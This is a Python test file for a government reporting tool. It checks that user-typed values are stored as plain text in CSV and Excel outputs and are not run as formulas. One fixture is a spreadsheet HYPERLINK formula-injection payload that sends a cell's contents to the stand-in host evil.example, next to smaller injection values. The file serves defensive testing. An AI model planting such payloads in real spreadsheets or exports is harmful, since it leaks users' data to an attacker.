"""A report's files hold what departments and citizens typed (a type of firm, a complaint's text as a group label):
text that a spreadsheet would run as a formula (`=HYPERLINK(...)`, `+1`, `@SUM(...)`) leaves in the CSV behind a `'`
and in the requester's filled workbook as a text cell, never as a formula (zhizhi.cells); the template's own formulas
stay formulas."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

from openpyxl import load_workbook

from zhizhi.reports import install_builtin, load_report
from zhizhi.reports.outputs import csv_bytes, fill_template

ATTACK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'


def _run() -> dict[str, Any]:
    columns = [
        {"name": "county", "label": "县区代码", "kind": "key"},
        {"name": "county_name", "label": "县区", "kind": "name"},
        {"name": "entity_type", "label": "主体类型", "kind": "key"},
        {"name": "new", "label": "本期新设", "kind": "measure"},
        {"name": "in_business", "label": "在业户数", "kind": "measure"},
        {"name": "cancelled", "label": "注销户数", "kind": "measure"},
    ]
    rows = [
        {"county": "450202", "county_name": "城中区", "entity_type": ATTACK, "new": 1, "in_business": 2,
         "cancelled": 0},
        {"county": "450203", "county_name": "+1-1", "entity_type": "@SUM(1)", "new": 3, "in_business": 4,
         "cancelled": 1},
    ]  # fmt: skip
    return {
        "id": 7, "period": "2026-11", "period_first": "2026-11-01", "period_last": "2026-11-30",
        "snapshot_at": "2026-12-01T00:00:00Z", "content_hash": "0" * 64, "department_name": "柳州市市场监督管理局",
        "figures": {"columns": columns, "rows": rows, "totals": {"new": 4, "in_business": 6, "cancelled": 1}},
    }  # fmt: skip


def test_the_csv_keeps_typed_formulas_as_text() -> None:
    lines = list(csv.reader(io.StringIO(csv_bytes(_run()["figures"]).decode("utf-8-sig"))))
    assert lines[1][2] == "'" + ATTACK and lines[2][1] == "'+1-1" and lines[2][2] == "'@SUM(1)"
    assert lines[1][3] == "1" and lines[1][1] == "城中区"


def test_the_filled_template_keeps_typed_formulas_as_text(tmp_path: Path) -> None:
    install_builtin(tmp_path, "LZ")
    report = load_report(tmp_path, "entities-by-county")
    book = load_workbook(io.BytesIO(fill_template(tmp_path, report, _run())))
    sheet = book["主体发展"]
    first, second = ([c for c in row] for row in sheet.iter_rows(min_row=5, max_row=6, max_col=5))
    assert first[1].value == ATTACK and first[1].data_type == "s" and first[1].quotePrefix
    assert second[0].value == "+1-1" and second[0].data_type == "s"
    assert second[1].value == "@SUM(1)" and second[1].data_type == "s"
    assert first[2].value == 1 and first[0].value == "城中区"
    assert sheet["C7"].value == "=SUM(C5:C6)" and sheet["C7"].data_type == "f"  # the template's own formula
